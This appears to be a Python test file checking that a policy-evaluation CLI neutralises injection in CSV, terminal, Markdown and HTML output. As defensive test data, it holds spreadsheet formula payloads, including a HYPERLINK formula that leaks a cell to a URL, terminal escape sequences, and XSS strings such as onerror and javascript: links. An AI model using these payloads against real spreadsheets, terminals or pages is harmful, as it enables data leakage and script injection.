"""Nothing written for a spreadsheet, a terminal or a Markdown/HTML viewer can carry an injection
(docs/bad-input.md, "Outputs"): CSV cells a spreadsheet would run as formulas are neutralised
(numbers stay numbers, `--csv-raw` keeps them), terminal control characters are shown as visible
escapes and cut only after escaping, and Markdown escapes HTML, links, images and line breaks."""
from __future__ import annotations

import csv
import io
import json
import re

import cmarkgfm
import pytest

from evaluator.render.cells import csv_cell
from evaluator.render.markdown import md_code, md_text
from evaluator.render.text import fit, visible

from conftest import base_policy, write_json

HYPERLINK = '=HYPERLINK("http://x/?"&A1)'
OSC = "\x1b]8;;http://evil/\x07click me\x1b]8;;\x07"
FORMULAS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "\rx", "=1"]
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")  # what must never reach a terminal or a cell


def _policy(tmp_path, **changes):
    doc = base_policy(measures={"net": {"description": "net balance", "compute": {"sum": ["balance", 0]}}},
                      **changes)
    return str(write_json(tmp_path / "policy.json", doc))


def _facts(tmp_path, records, name="facts.jsonl"):
    path = tmp_path / name
    path.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    return str(path)


def _hostile_records():
    records = [{"partner_id": pid, "sales": 150} for pid in FORMULAS]
    records += [{"partner_id": "p\x00q\x1bz", "sales": 20}, {"partner_id": "-5", "sales": 5, "balance": -5},
                {"partner_id": OSC, "sales": "not a number"}]  # an error record keeps its id
    return records


def _cells(text):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_safe_cells(text):
    for cell in _cells(text):
        assert not RAW_CONTROL.search(cell) and "\t" not in cell and "\r" not in cell, cell
        if cell[:1] in ("=", "+", "-", "@"):
            assert re.fullmatch(r"[+-]?[0-9.]+(?:[eE][+-]?[0-9]+)?", cell), cell  # only a number may


# --- CSV -------------------------------------------------------------------------------------

@pytest.mark.parametrize("jobs", ["1", "2"])
def test_evaluate_csv_neutralises_formulas_and_control_characters(cli, tmp_path, jobs):
    facts = _facts(tmp_path, _hostile_records())
    proc = cli("evaluate", "--policy", _policy(tmp_path), "--format", "csv", "--jobs", jobs, facts)
    assert proc.returncode == 1, proc.stderr_text  # the error record
    _assert_safe_cells(proc.stdout_text)
    rows = list(csv.DictReader(io.StringIO(proc.stdout_text)))
    assert [r["partner_id"] for r in rows[:len(FORMULAS)]] == ["'" + f if f[0] not in "\t\r" else visible(f)
                                                                for f in FORMULAS]
    assert rows[len(FORMULAS)]["partner_id"] == "p\\x00q\\x1bz"
    assert rows[len(FORMULAS) + 1]["partner_id"] == "-5" and rows[len(FORMULAS) + 1]["measure.net"] == "-5"
    assert rows[-1]["partner_id"] == visible(OSC) and rows[-1]["error"]


def test_evaluate_csv_raw_keeps_every_cell_as_it_is(cli, tmp_path):
    facts = _facts(tmp_path, [{"partner_id": HYPERLINK, "sales": 150}, {"partner_id": "a\x1bb", "sales": 1}])
    proc = cli("evaluate", "--policy", _policy(tmp_path), "--format", "csv", "--csv-raw", facts)
    rows = list(csv.DictReader(io.StringIO(proc.stdout_text)))
    assert [r["partner_id"] for r in rows] == [HYPERLINK, "a\x1bb"]


def test_near_csv_and_diff_csv_neutralise_too(cli, tmp_path):
    policy = _policy(tmp_path)
    facts = _facts(tmp_path, [{"partner_id": HYPERLINK, "sales": 95}, {"partner_id": "@x\x00", "sales": "bad"}])
    near = cli("evaluate", "--policy", policy, "--near", "10", "--format", "csv", facts)
    assert HYPERLINK in "".join(_cells(near.stdout_text)).replace("'=", "=")  # it is there, made inert
    _assert_safe_cells(near.stdout_text)
    raised = base_policy(version="2.0.0", tiers=[{"id": "gold", "name": "=Gold", "criteria": [
        {"id": "sales", "description": "sales", "condition": {"fact": "sales", "op": ">=", "value": 90}}]}])
    new = str(write_json(tmp_path / "new.json", raised))
    diff = cli("diff", policy, new, facts, "--format", "csv")
    _assert_safe_cells(diff.stdout_text)
    assert {r["partner_id"] for r in csv.DictReader(io.StringIO(diff.stdout_text))} == {"'" + HYPERLINK, "'@x\\x00"}
    raw = cli("diff", policy, new, facts, "--format", "csv", "--csv-raw")
    assert HYPERLINK in _cells(raw.stdout_text)


@pytest.mark.parametrize("value, cell", [
    ("=1+1", "'=1+1"), ("+A1", "'+A1"), ("-A1", "'-A1"), ("@A1", "'@A1"), ("\t=1", "\\t=1"), ("\r=1", "\\r=1"),
    ("-5", "-5"), ("-0.25", "-0.25"), ("+1e3", "+1e3"), (-5, -5), (2.5, 2.5), ("a=b", "a=b"), ("", ""),
    ("x\x00y", "x\\x00y"), ("line\nbreak", "line\\nbreak"), (" =1", " =1"),
])
def test_csv_cell(value, cell):
    assert csv_cell(value) == cell


# --- terminals -------------------------------------------------------------------------------

def test_visible_and_fit_never_leave_a_control_character_or_half_an_escape():
    assert visible("a\x1b[2Jb\r\x00\x7f\x9b\u202e") == "a\\x1b[2Jb\\r\\x00\\x7f\\x9b\\u202e"
    assert visible("plain é 日本") == "plain é 日本"
    cut = fit("\x1b]8;;http://evil", 8)
    assert cut == "\\x1b]8;~" and len(cut) == 8
    assert fit("ab\x1b", 4) == "ab\\~"  # cut inside the escape's text: still no ESC


def _no_raw_control(text):
    assert not RAW_CONTROL.search(text.replace("\n", "")), repr(text)
    assert "\r" not in text


def test_evaluate_table_shows_an_osc_harmlessly_and_cuts_it_after_escaping(cli, tmp_path):
    facts = _facts(tmp_path, [{"partner_id": OSC, "sales": 150}, {"partner_id": "ok", "sales": 150},
                              {"partner_id": "a\rFAKE", "sales": "x"}])
    proc = cli("evaluate", "--policy", _policy(tmp_path), "--format", "table", facts)
    _no_raw_control(proc.stdout_text)
    lines = proc.stdout_text.splitlines()
    assert lines[1].startswith("\\x1b]8;;http://~  Gold")  # 16 columns: escaped first, then cut
    assert lines[2].startswith("ok ")  # nothing swallowed the next line
    assert lines[3].startswith("a\\rFAKE")
    near = cli("evaluate", "--policy", _policy(tmp_path), "--near", "50", "--format", "table", facts)
    _no_raw_control(near.stdout_text)


def test_explain_replay_diff_and_report_text_show_control_characters_harmlessly(cli, tmp_path):
    policy = _policy(tmp_path)
    facts = _facts(tmp_path, [{"partner_id": OSC, "sales": 95}, {"partner_id": "b\x1b[31m", "sales": "x"}])
    explain = cli("explain", "--policy", policy, facts)
    _no_raw_control(explain.stdout_text)
    assert visible(OSC) in explain.stdout_text
    recorded = tmp_path / "decisions.jsonl"
    cli("evaluate", "--policy", policy, "--with-input", "-o", str(recorded), facts)
    raised = str(write_json(tmp_path / "new.json", base_policy(version="2.0.0", tiers=[
        {"id": "gold", "name": "Gold", "criteria": [
            {"id": "sales", "description": "sales", "condition": {"fact": "sales", "op": ">=", "value": 90}}]}])))
    replay = cli("replay", str(recorded), "--policy", policy.replace("policy.json", "new.json"))
    _no_raw_control(replay.stdout_text + replay.stderr_text)
    assert visible(OSC) in replay.stdout_text
    diff = cli("diff", policy, raised, facts)
    _no_raw_control(diff.stdout_text)
    assert visible(OSC) in diff.stdout_text
    report = cli("report", "--policy", policy, facts)
    _no_raw_control(report.stdout_text)


@pytest.mark.parametrize("where, value", [
    ("/tiers/0/name", "Gold\x1b]0;owned\x07"), ("/tiers/0/name", "Gold\rSilver"), ("/version", "1.0\x00"),
    ("/title", "T\x1b[2J"), ("/tiers/0/criteria/0/description", "sales\x1b[8m"), ("/tiers/0/name", "Gold\u202e"),
    ("/facts/country/enum", ["AU", "N\x00Z"]),
])
def test_validate_refuses_control_characters_in_names_versions_and_texts(cli, tmp_path, where, value):
    doc = base_policy()
    parts = where.strip("/").split("/")
    target = doc
    for part in parts[:-1]:
        target = target[int(part)] if part.isdigit() else target[part]
    target[parts[-1]] = value
    path = write_json(tmp_path / "p.json", doc)
    proc = cli("validate", str(path))
    assert proc.returncode == 2
    assert f"(at {where}" in proc.stderr_text and "control character" in proc.stderr_text
    assert re.search(rf"{re.escape(str(path))}:\d+:\d+: error", proc.stderr_text)
    _no_raw_control(proc.stderr_text)


def test_a_description_may_hold_a_line_break(cli, tmp_path):
    doc = base_policy(description="Line one.\nLine two.\tTabbed.")
    assert cli("validate", str(write_json(tmp_path / "p.json", doc))).returncode == 0


# --- Markdown and HTML -----------------------------------------------------------------------

def _html(markdown):
    return cmarkgfm.github_flavored_markdown_to_html(markdown, options=cmarkgfm.cmark.Options.CMARK_OPT_UNSAFE)


@pytest.mark.parametrize("text", [
    "<img src=x onerror=alert(1)>", "[x](javascript:alert(1))", "![](http://host/pixel)", "<http://evil/>",
    "see http://evil.example/x", "www.evil.example", "**b** _i_ ~~s~~ `c`", "a|b",
])
def test_md_text_renders_as_the_text_itself(text):
    html = _html(md_text(text))
    assert "<img" not in html and "<a " not in html and "<strong" not in html and "<em" not in html
    assert "<del" not in html and "<code" not in html
    import html as html_module
    assert html_module.unescape(re.sub(r"</?p>", "", html)).strip() == text


def test_md_text_turns_line_breaks_into_spaces():
    assert md_text("a\rb\r\nc\nd\u2028e") == "a b c d e"
    assert "<h1" not in _html("x " + md_text("y\n# heading"))


def test_md_code_cannot_be_left():
    for text in ["a`b", "``", "`<img src=x>`", "x | y"]:
        html = _html(md_code(text))
        assert html.count("<code>") == 1 and "<img" not in html
    assert "\\|" in md_code("x | y", in_table=True)


def test_explain_markdown_escapes_a_partner_id(cli, tmp_path):
    facts = _facts(tmp_path, [{"partner_id": "<img src=x onerror=alert(1)>", "sales": 150},
                              {"partner_id": "[x](javascript:alert(1))\r# not a heading", "sales": "x"}])
    proc = cli("explain", "--policy", _policy(tmp_path), "--format", "markdown", facts)
    html = _html(proc.stdout_text)
    assert "<img" not in html and "javascript:" not in html.split('href="')[-1][:12]
    assert "<a " not in html and "\r" not in proc.stdout_text
    assert "&lt;img src=x onerror=alert(1)&gt;: Gold" in html


def test_report_and_diff_markdown_escape_ids_titles_versions_and_descriptions(cli, tmp_path):
    hostile = "<script>alert(1)</script> [x](javascript:alert(1)) ![](http://host/pixel)"
    doc = base_policy(title=hostile, version="1.0 <b>", description=hostile)
    doc["facts"]["regions"]["description"] = hostile
    policy = str(write_json(tmp_path / "policy.json", doc))
    new = str(write_json(tmp_path / "new.json", {**doc, "version": "2.0 `x`"}))
    facts = _facts(tmp_path, [{"partner_id": "a`b<img src=x>", "sales": "bad"},
                              {"partner_id": "p1", "sales": 150, "regions": ["<img src=y>", "[r](http://e)"]}])
    for proc in (cli("report", "--policy", policy, facts, "--by", "regions"),
                 cli("diff", policy, new, facts, "--format", "markdown")):
        html = _html(proc.stdout_text)
        assert "<script" not in html and "<img" not in html and "<b>" not in html
        assert "<a " not in html and "javascript:" not in re.findall(r'href="([^"]*)', html + 'href=""')[0]
    report = _html(cli("report", "--policy", policy, facts, "--by", "regions").stdout_text)
    assert "<code>a`b&lt;img src=x&gt;</code>" in report  # the id in one code span it cannot leave


def test_report_and_diff_html_escape_everything_from_the_data(cli, tmp_path):
    hostile = "<script>alert(1)</script>"
    doc = base_policy(title=hostile, version="1.0 <b>")
    doc["tiers"][0]["name"] = "<i>Gold</i>"
    policy = str(write_json(tmp_path / "policy.json", doc))
    facts = _facts(tmp_path, [{"partner_id": "<img src=x>", "sales": "bad"}, {"partner_id": "p", "sales": 150}])
    for proc in (cli("report", "--policy", policy, facts, "--format", "html"),
                 cli("diff", policy, policy, facts, "--format", "html")):
        assert "<script" not in proc.stdout_text and "<img" not in proc.stdout_text and "<i>" not in proc.stdout_text
        assert "&lt;script&gt;" in proc.stdout_text


def test_policy_test_output_shows_a_case_name_harmlessly(cli, tmp_path):
    policy = _policy(tmp_path)
    tests = tmp_path / "policy.tests.json"
    tests.write_text(json.dumps({"policy": "policy.json", "cases": [
        {"name": "gold\x1b]0;owned\x07", "facts": {"partner_id": "P", "sales": 150}, "expect": {"tier": "silver"}}]}))
    proc = cli("test", policy)
    assert proc.returncode == 1
    _no_raw_control(proc.stdout_text + proc.stderr_text)
    assert "FAIL  gold\\x1b]0;owned\\x07" in proc.stdout_text
